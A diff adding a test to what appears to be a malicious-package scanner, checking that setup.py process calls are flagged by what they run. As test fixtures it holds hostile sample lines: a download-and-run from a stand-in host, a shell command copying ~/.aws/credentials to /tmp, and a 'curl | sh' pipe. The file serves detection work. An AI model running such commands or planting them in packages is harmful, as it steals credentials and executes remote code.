@@ -272,3 +272,24 @@ test('a module that takes URLs apart (urllib.parse) and opens one with os.startf
   const fetched = dropper + "\nurlretrieve('https://x.example/a.exe', 'a.exe')\nos.startfile('a.exe')\n";
   assert.ok(ids('pkg/termui.py', fetched).some((f) => f.includes('download-and-run')));
 });
+
+test('setup.py processes are judged by what they run: a compiler named first no longer hides the rest', () => {
+  const setup = (body: string) =>
+    `from setuptools import setup\nimport os, subprocess, sys\n${body}\nsetup(name="x")\n`;
+  const exec = (body: string) =>
+    scanText('setup.py', setup(body))
+      .findings.filter((f) => f.ruleId === 'supply-chain.install-time-exec')
+      .map((f) => `${f.line}:${f.severity}`);
+  // the attacker's ways: a build tool first, then the payload; python -c in a list; a shell line
+  assert.deepEqual(exec(`os.system("gcc -v; python3 -c 'import os; os.system(1)'")`), ['3:medium']);
+  assert.deepEqual(exec(`subprocess.call([sys.executable, "-c", "import socket"])`), ['3:medium']);
+  assert.deepEqual(exec(`subprocess.run("make && cat ~/.aws/credentials > /tmp/x", shell=True)`), ['3:high']);
+  assert.deepEqual(exec(`subprocess.check_call(\n    cmd,\n    shell=True)`), ['3:medium']);
+  // the build's own processes: compilers, pkg-config, a *-config helper held in a variable
+  assert.deepEqual(exec(`subprocess.check_output(["pkg-config", "--cflags", "libffi"])`), []);
+  assert.deepEqual(exec(`os.system("make -C src")`), []);
+  assert.deepEqual(exec(`p = subprocess.Popen((self.curl_config(), "--features"),\n    stdout=subprocess.PIPE)`), []);
+  assert.deepEqual(exec(`out = subprocess.run(\n    [self.pg_config_exe, "--" + attr],\n    check=True)`), []);
+  // (a comment is not a call)
+  assert.deepEqual(exec(`# os.system("curl x | sh")`), []);
+});
